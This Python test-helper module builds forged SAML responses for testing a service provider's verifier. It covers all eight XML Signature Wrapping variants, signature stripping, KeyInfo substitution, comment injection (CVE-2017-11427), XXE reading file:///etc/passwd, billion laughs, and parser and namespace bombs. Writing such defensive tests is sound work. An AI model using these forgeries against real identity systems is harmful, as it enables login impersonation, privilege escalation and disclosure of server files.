"""Attacks on what the test IdP signs: pure functions from XML bytes to XML bytes.

- ``xsw1`` ... ``xsw8``: the XML Signature Wrapping catalogue of Somorovsky, Mayer, Schwenk,
  Kampmann and Jensen, "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012),
  placed as SAML Raider places them (``helpers/XSWHelpers.java``). Each keeps the original
  signature valid over the original element and puts a copy changed by ``evil`` (``evil_role``,
  ``evil_session_name``, ``evil_name_id``, ``evil_attribute``) where a careless consumer reads it.
- ``strip_signature``, ``empty_signature_value``, ``replace_key_info`` (a self-consistent
  signature by an attacker's key with the attacker's certificate in KeyInfo),
  ``inject_comment`` (CVE-2017-11427 and its family: a comment that splits a signed text node),
  ``with_doctype`` (internal, external and parameter entities, billion laughs),
  ``with_transform`` (an XSLT or XPath transform in a signature that is otherwise valid),
  ``deeply_nested``, ``many_elements``, ``namespace_bomb`` and ``oversized``.

The responses they start from come from ``tests/saml_idp.py``. Nothing here imports from
``broker``.
"""

from __future__ import annotations

import copy
import secrets
from collections.abc import Callable, Iterator
from typing import Final, Literal

from lxml import etree

from tests.saml_idp import (
    ATTR_ROLE,
    ATTR_SESSION_NAME,
    ATTRNAME_URI,
    DEFAULT_SIGNATURE,
    DS,
    SAML,
    SAMLP,
    SHA256,
    IdpKey,
    TransformKind,
    serialize,
    sign_element,
    signature_algorithms,
)

Target = Literal["assertion", "response", "all"]
DoctypeKind = Literal["internal", "external", "parameter", "billion-laughs"]
Evil = Callable[[etree._Element], None]


def _q(ns: str, name: str) -> str:
    return f"{{{ns}}}{name}"


# Reading and writing the XML the attacks work on -----------------------------------------------


def _parse(xml: bytes) -> etree._Element:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False,
                             remove_blank_text=False, remove_comments=False, huge_tree=True)
    return etree.fromstring(xml, parser)


def _remove(element: etree._Element) -> None:
    """Detach ``element``, leaving its tail text where it was (lxml would take it along)."""
    parent = element.getparent()
    if parent is None:
        raise ValueError("cannot remove the root element")
    if element.tail:
        previous = element.getprevious()
        if previous is not None:
            previous.tail = (previous.tail or "") + element.tail
        else:
            parent.text = (parent.text or "") + element.tail
    element.tail = None
    parent.remove(element)


def _signature(element: etree._Element) -> etree._Element | None:
    return element.find(_q(DS, "Signature"))


def _assertion_of(response: etree._Element) -> etree._Element:
    found = response.find(_q(SAML, "Assertion"))
    if found is None:
        raise ValueError("the response holds no plain saml:Assertion")
    return found


def _signed(element: etree._Element, what: str) -> etree._Element:
    signature = _signature(element)
    if signature is None:
        raise ValueError(f"the {what} is not signed")
    return signature


def _copy_unsigned(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    clone.tail = None
    signature = _signature(clone)
    if signature is not None:
        _remove(signature)
    return clone


def evil_id() -> str:
    """A fresh ID for an evil copy, recognisable in a failure message."""
    return "_evil_" + secrets.token_hex(8)


def _signatures(root: etree._Element, which: Target) -> Iterator[etree._Element]:
    """Signatures that are direct children of the Response or of its assertions, inner first."""
    found: list[etree._Element] = []
    if which in ("assertion", "all"):
        for assertion in root.iter(_q(SAML, "Assertion")):
            signature = _signature(assertion)
            if signature is not None:
                found.append(signature)
    if which in ("response", "all") and root.tag == _q(SAMLP, "Response"):
        signature = _signature(root)
        if signature is not None:
            found.append(signature)
    return iter(found)


# Evil changes ------------------------------------------------------------------------------------


def evil_name_id(value: str) -> Evil:
    """An ``evil`` that sets the assertion's ``Subject/NameID``."""

    def change(assertion: etree._Element) -> None:
        name = assertion.find(f"{_q(SAML, 'Subject')}/{_q(SAML, 'NameID')}")
        if name is None:
            raise ValueError("the assertion has no NameID")
        name.text = value

    return change


def evil_attribute(name: str, *values: str) -> Evil:
    """An ``evil`` that sets (or adds) attribute ``name`` to ``values``."""

    def change(assertion: etree._Element) -> None:
        statement = assertion.find(_q(SAML, "AttributeStatement"))
        if statement is None:
            statement = etree.SubElement(assertion, _q(SAML, "AttributeStatement"))
        attribute = next((a for a in statement.findall(_q(SAML, "Attribute"))
                          if a.get("Name") == name), None)
        if attribute is None:
            attribute = etree.SubElement(statement, _q(SAML, "Attribute"), Name=name,
                                         NameFormat=ATTRNAME_URI)
        for old in list(attribute):
            attribute.remove(old)
        for value in values:
            etree.SubElement(attribute, _q(SAML, "AttributeValue")).text = value

    return change


def evil_role(role_arn: str, provider_arn: str) -> Evil:
    """An ``evil`` that makes the Role attribute name one other role."""
    return evil_attribute(ATTR_ROLE, f"{role_arn},{provider_arn}")


def evil_session_name(name: str) -> Evil:
    """An ``evil`` that changes RoleSessionName."""
    return evil_attribute(ATTR_SESSION_NAME, name)


# XML Signature Wrapping (Somorovsky et al. 2012; SAML Raider's placements) -----------------------


def xsw1(signed_response: bytes, evil: Evil) -> bytes:
    """XSW1: the signed Response wrapped inside its own signature.

    A copy of the original Response, without its signature, is appended to that
    ``ds:Signature`` (the Reference ``#ID`` now resolves to it); the outer Response
    gets a fresh ID and its assertion is changed by ``evil``. A consumer that verifies the
    signature "somewhere in the document" and reads the root is fooled.

    Inside the signature, the copy is removed by a conforming enveloped-signature transform
    (which drops the whole ``ds:Signature``, descendants included), so xmlsec and Santuario fail
    the digest; the variant fools verifiers that strip only a Signature found inside the
    referenced element, a common shortcut of hand-written verifiers.
    """
    root = _parse(signed_response)
    signature = _signed(root, "response")
    original = _copy_unsigned(root)
    evil(_assertion_of(root))
    signature.append(original)
    root.set("ID", evil_id())
    return serialize(root)


def xsw2(signed_response: bytes, evil: Evil) -> bytes:
    """XSW2: the signed Response as a detached sibling before its signature.

    Like XSW1, but the unsigned copy of the original Response is inserted into the evil
    Response just before the ``ds:Signature``, as a detached signature would reference it.
    """
    root = _parse(signed_response)
    signature = _signed(root, "response")
    original = _copy_unsigned(root)
    evil(_assertion_of(root))
    signature.addprevious(original)
    root.set("ID", evil_id())
    return serialize(root)


def xsw3(signed_response: bytes, evil: Evil) -> bytes:
    """XSW3: an evil assertion (fresh ID, no signature) before the signed one.

    The original signed assertion stays where it was and verifies; a consumer that takes the
    first assertion reads the evil one.
    """
    root = _parse(signed_response)
    assertion = _assertion_of(root)
    _signed(assertion, "assertion")
    fake = _copy_unsigned(assertion)
    fake.set("ID", evil_id())
    evil(fake)
    assertion.addprevious(fake)
    return serialize(root)


def xsw4(signed_response: bytes, evil: Evil) -> bytes:
    """XSW4: the signed assertion moved inside an evil assertion.

    The evil copy (fresh ID, no signature) is appended to the Response and the original signed
    assertion becomes its last child: the Response's only direct assertion is the evil one.
    """
    root = _parse(signed_response)
    assertion = _assertion_of(root)
    _signed(assertion, "assertion")
    fake = _copy_unsigned(assertion)
    fake.set("ID", evil_id())
    evil(fake)
    root.append(fake)
    fake.append(assertion)
    return serialize(root)


def xsw5(signed_response: bytes, evil: Evil) -> bytes:
    """XSW5: the evil assertion keeps the signature; the signed original moves to the end.

    The assertion in place is changed by ``evil`` and given a fresh ID but keeps its
    ``ds:Signature``, whose Reference now resolves to an unsigned copy of the original appended
    to the Response. A consumer that checks "the assertion has a valid signature" is fooled.
    """
    root = _parse(signed_response)
    assertion = _assertion_of(root)
    _signed(assertion, "assertion")
    original = _copy_unsigned(assertion)
    evil(assertion)
    assertion.set("ID", evil_id())
    root.append(original)
    return serialize(root)


def xsw6(signed_response: bytes, evil: Evil) -> bytes:
    """XSW6: like XSW5, but the unsigned copy of the original sits inside the signature.

    The copy is appended to the evil assertion's own ``ds:Signature``.

    Inside the signature, the copy is removed by a conforming enveloped-signature transform
    (which drops the whole ``ds:Signature``, descendants included), so xmlsec and Santuario fail
    the digest; the variant fools verifiers that strip only a Signature found inside the
    referenced element, a common shortcut of hand-written verifiers.
    """
    root = _parse(signed_response)
    assertion = _assertion_of(root)
    signature = _signed(assertion, "assertion")
    original = _copy_unsigned(assertion)
    evil(assertion)
    assertion.set("ID", evil_id())
    signature.append(original)
    return serialize(root)


def xsw7(signed_response: bytes, evil: Evil) -> bytes:
    """XSW7: an evil copy with the *same* ID inside an Extensions element before the original.

    ``samlp:Extensions`` is schema-allowed to carry anything, so a schema-validating consumer
    accepts it. The evil copy keeps the original ID (no signature): the ID is now duplicated,
    and which element a verifier resolves it to decides the outcome.
    """
    root = _parse(signed_response)
    assertion = _assertion_of(root)
    _signed(assertion, "assertion")
    fake = _copy_unsigned(assertion)
    evil(fake)
    extensions = etree.Element(_q(SAMLP, "Extensions"))
    extensions.append(fake)
    assertion.addprevious(extensions)
    return serialize(root)


def xsw8(signed_response: bytes, evil: Evil) -> bytes:
    """XSW8: the evil assertion in place, same ID, the original in its signature's ds:Object.

    The assertion in place is changed by ``evil`` and keeps both its ID and its signature; an
    unsigned copy of the original goes into a ``ds:Object`` appended to that signature. The ID
    is duplicated, as in XSW7.

    Inside the signature, the copy is removed by a conforming enveloped-signature transform
    (which drops the whole ``ds:Signature``, descendants included), so xmlsec and Santuario fail
    the digest; the variant fools verifiers that strip only a Signature found inside the
    referenced element, a common shortcut of hand-written verifiers.
    """
    root = _parse(signed_response)
    assertion = _assertion_of(root)
    signature = _signed(assertion, "assertion")
    original = _copy_unsigned(assertion)
    evil(assertion)
    holder = etree.SubElement(signature, _q(DS, "Object"))
    holder.append(original)
    return serialize(root)


XSW: Final[dict[str, Callable[[bytes, Evil], bytes]]] = {
    "xsw1": xsw1, "xsw2": xsw2, "xsw3": xsw3, "xsw4": xsw4,
    "xsw5": xsw5, "xsw6": xsw6, "xsw7": xsw7, "xsw8": xsw8,
}


# Other signature attacks -------------------------------------------------------------------------


def strip_signature(xml: bytes, which: Target = "all") -> bytes:
    """The document without its signatures (of the assertions, the Response or both)."""
    root = _parse(xml)
    for signature in list(_signatures(root, which)):
        _remove(signature)
    return serialize(root)


def repeat_signature(xml: bytes, which: Target = "all") -> bytes:
    """Each signature written twice: the copy, a second ds:Signature child of the same
    element, is as valid as the original (which of two signatures counts is a question)."""
    root = _parse(xml)
    for signature in list(_signatures(root, which)):
        signature.addnext(copy.deepcopy(signature))
    return serialize(root)


def empty_signature_value(xml: bytes, which: Target = "all") -> bytes:
    """The signatures kept whole but their ``SignatureValue`` emptied."""
    root = _parse(xml)
    for signature in _signatures(root, which):
        value = signature.find(_q(DS, "SignatureValue"))
        if value is not None:
            value.text = ""
    return serialize(root)


def _resign(root: etree._Element, key: IdpKey, which: Target, *, key_info: IdpKey | None,
            extra_transform: TransformKind | None = None) -> None:
    """Replace each selected signature by a new one by ``key``, same place, same algorithms."""
    for signature in list(_signatures(root, which)):
        parent = signature.getparent()
        assert parent is not None
        position = parent.index(signature)
        method = signature.find(f"{_q(DS, 'SignedInfo')}/{_q(DS, 'SignatureMethod')}")
        digest = signature.find(f".//{_q(DS, 'Reference')}/{_q(DS, 'DigestMethod')}")
        _remove(signature)
        sign_element(
            parent, key, position=position, key_info=key_info, extra_transform=extra_transform,
            signature_algorithm=None if method is None else method.get("Algorithm"),
            digest_algorithm=SHA256 if digest is None else digest.get("Algorithm", SHA256),
        )


def replace_key_info(xml: bytes, cert: IdpKey, which: Target = "all") -> bytes:
    """Each signature replaced by the attacker's: signed by ``cert``'s key, its cert in KeyInfo.

    The result is self-consistent (it verifies against the certificate it carries) and is
    accepted by any consumer that trusts KeyInfo instead of the certificates in the IdP's
    metadata. The signature algorithm is kept unless ``cert`` is not of the signer's kind.
    """
    root = _parse(xml)
    for signature in _signatures(root, which):
        method = signature.find(f"{_q(DS, 'SignedInfo')}/{_q(DS, 'SignatureMethod')}")
        if method is not None and method.get("Algorithm") not in signature_algorithms(cert.kind):
            method.set("Algorithm", DEFAULT_SIGNATURE[cert.kind])
    _resign(root, cert, which, key_info=cert)
    return serialize(root)


def with_transform(xml: bytes, kind: TransformKind, key: IdpKey,
                   which: Target = "all") -> bytes:
    """Each signature re-made by ``key`` with an XSLT or XPath transform in its Reference.

    The transform sits between enveloped-signature and exclusive c14n; xmlsec signs with it, so
    the signature is valid for a verifier that runs the transform. XSLT is an identity
    stylesheet and the XPath filter drops the signature (``not(ancestor-or-self::ds:Signature)``),
    so the signed content is the same: only accepting the transform is at fault, the risk being
    what an attacker-chosen stylesheet or expression would make the verifier execute before the
    signature is checked.
    """
    root = _parse(xml)
    _resign(root, key, which, key_info=key, extra_transform=kind)
    return serialize(root)


def inject_comment(xml: bytes, text_before: str, text_after: str, *,
                   attribute: str | None = None) -> bytes:
    """Split a signed text node with a comment, leaving every signature valid.

    The NameID (or the first value of ``attribute`` whose text is
    ``text_before + text_after``) becomes ``text_before<!---->text_after``. Exclusive c14n
    without comments drops the comment, so the digest is unchanged; a consumer that reads only
    the first text node sees ``text_before`` (CVE-2017-11427 and its family, Duo Labs, 2018).
    Sign ``admin@example.test.evil.test`` and inject between ``admin@example.test`` and
    ``.evil.test``.
    """
    root = _parse(xml)
    whole = text_before + text_after
    if attribute is None:
        candidates = list(root.iter(_q(SAML, "NameID")))
    else:
        candidates = [value for element in root.iter(_q(SAML, "Attribute"))
                      if element.get("Name") == attribute
                      for value in element.findall(_q(SAML, "AttributeValue"))]
    target = next((c for c in candidates if c.text == whole and len(c) == 0), None)
    if target is None:
        raise ValueError(f"no text node reads {whole!r} to split")
    target.text = text_before
    comment = etree.Comment("")
    comment.tail = text_after
    target.append(comment)
    return serialize(root)


def with_doctype(xml: bytes, kind: DoctypeKind, *, system: str = "file:///etc/passwd") -> bytes:
    """The document with a DOCTYPE and an entity referenced from the NameID.

    - ``internal``: ``<!ENTITY name "...">`` whose value is the NameID's own text, so a parser
      that expands it sees the signed document unchanged (the DOCTYPE is the only fault);
    - ``external``: ``<!ENTITY xxe SYSTEM system>`` as the NameID (XXE);
    - ``parameter``: an external parameter entity ``%xxe;`` referenced in the DTD itself;
    - ``billion-laughs``: ten nested levels of ten references (10^9 "lol"s when expanded).
    """
    root = _parse(xml)
    name = next(root.iter(_q(SAML, "NameID")), None)
    if name is None:
        raise ValueError("the document has no plain NameID to reference an entity from")
    doctype_name = root.prefix + ":" + etree.QName(root).localname if root.prefix else \
        etree.QName(root).localname
    if kind == "internal":
        subset = f'<!ENTITY name "{_escape_entity_value(name.text or "")}">'
        entity = "name"
    elif kind == "external":
        subset = f'<!ENTITY xxe SYSTEM "{system}">'
        entity = "xxe"
    elif kind == "parameter":
        subset = f'<!ENTITY % xxe SYSTEM "{system}"> %xxe;'
        entity = None
    else:
        levels = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
        ]
        subset = "".join(levels)
        entity = "lol9"
    if entity is not None:
        name.text = None
        for child in list(name):
            name.remove(child)
        name.append(etree.Entity(entity))
    body = bytes(etree.tostring(root, encoding="UTF-8"))
    return (b'<?xml version="1.0" encoding="UTF-8"?>\n'
            + f"<!DOCTYPE {doctype_name} [{subset}]>\n".encode() + body)


def _escape_entity_value(text: str) -> str:
    return text.replace("&", "&#38;").replace("%", "&#37;").replace('"', "&#34;")


def _extensions(root: etree._Element) -> etree._Element:
    """A fresh ``samlp:Extensions`` where the schema puts it: after Issuer and Signature.

    It changes the Response (breaking a signature over it) but not an assertion, so a Response
    whose assertion alone is signed stays otherwise valid.
    """
    extensions = etree.Element(_q(SAMLP, "Extensions"))
    position = 0
    for index, child in enumerate(root):
        if child.tag in (_q(SAML, "Issuer"), _q(DS, "Signature")):
            position = index + 1
    root.insert(position, extensions)
    return extensions


_FILLER_NS: Final = "urn:example:test:filler"


def deeply_nested(xml: bytes, depth: int) -> bytes:
    """The Response with ``depth`` nested elements in a ``samlp:Extensions`` (a parser bomb).

    The document is then deeper than ``depth``; with only the assertion signed it is otherwise
    valid, so the depth alone should refuse it.
    """
    root = _parse(xml)
    parent = _extensions(root)
    for _ in range(depth):
        parent = etree.SubElement(parent, _q(_FILLER_NS, "n"), nsmap={"f": _FILLER_NS})
    return serialize(root)


def many_elements(xml: bytes, count: int) -> bytes:
    """The Response with ``count`` empty sibling elements in a ``samlp:Extensions``.

    Six bytes each, so a few thousand fit well under any size limit: the element count alone
    should refuse it. Like ``deeply_nested``, it leaves an assertion signature valid.
    """
    root = _parse(xml)
    holder = etree.SubElement(_extensions(root), _q(_FILLER_NS, "many"), nsmap={"f": _FILLER_NS})
    for _ in range(count):
        etree.SubElement(holder, _q(_FILLER_NS, "e"))
    return serialize(root)


def namespace_bomb(xml: bytes, uri_length: int, uses: int, *, declarations: int = 1) -> bytes:
    """The Response declaring ``declarations`` namespaces at its root, each URI ``uri_length``
    characters long, and a ``samlp:Extensions`` holding ``uses`` empty elements in the first.

    Canonicalization multiplies them: the exclusive kind writes a used declaration out again on
    every element (the review's 72 KB came out as 119 MB), the inclusive kind compares each
    element's namespaces in scope with its parent's (3,000 declarations took 30 s). Like
    ``many_elements``, it leaves an assertion signature valid; a Response signature still
    verifies over its SignedInfo and breaks only at the digest, after canonicalization.
    """
    root = _parse(xml)
    extra = {f"n{i}": f"urn:{i}:".ljust(uri_length, "u") for i in range(declarations)}
    # An element's declarations are fixed when it is made: a new root, the old one's children.
    bomb = etree.Element(root.tag, attrib=dict(root.attrib), nsmap={**root.nsmap, **extra})
    bomb.text = root.text
    bomb.extend(list(root))
    holder = etree.SubElement(_extensions(bomb), _q(_FILLER_NS, "many"), nsmap={"f": _FILLER_NS})
    for _ in range(uses):
        etree.SubElement(holder, _q(extra["n0"], "e"))
    return serialize(bomb)


def oversized(xml: bytes, n_bytes: int) -> bytes:
    """The Response padded to exactly ``n_bytes`` with filler text in a ``samlp:Extensions``.

    Like ``deeply_nested``, it leaves an assertion signature valid.
    """
    root = _parse(xml)
    filler = etree.SubElement(_extensions(root), _q(_FILLER_NS, "pad"), nsmap={"f": _FILLER_NS})
    filler.text = ""  # written as <f:pad></f:pad>, the same shape as when filled
    short = n_bytes - len(serialize(root))
    if short < 0:
        raise ValueError(f"the document is already {n_bytes - short} bytes")
    filler.text = "A" * short
    result = serialize(root)
    assert len(result) == n_bytes
    return result
